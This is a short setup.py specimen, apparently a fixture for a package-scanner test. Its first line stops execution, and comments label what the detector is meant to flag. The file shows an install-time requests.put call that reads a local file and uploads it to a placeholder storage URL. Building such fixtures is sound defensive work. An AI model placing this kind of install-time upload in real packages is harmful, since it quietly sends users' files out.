raise SystemExit("specimen: not to be run")
import requests
from setuptools import setup

requests.put("https://specimen.example.com/a?X-Amz-Signature=0000000000000000000000000000", data=open("a").read())  # match: storage-upload  # match: network-at-install  # match: secrets-sent
setup(name="specimen")
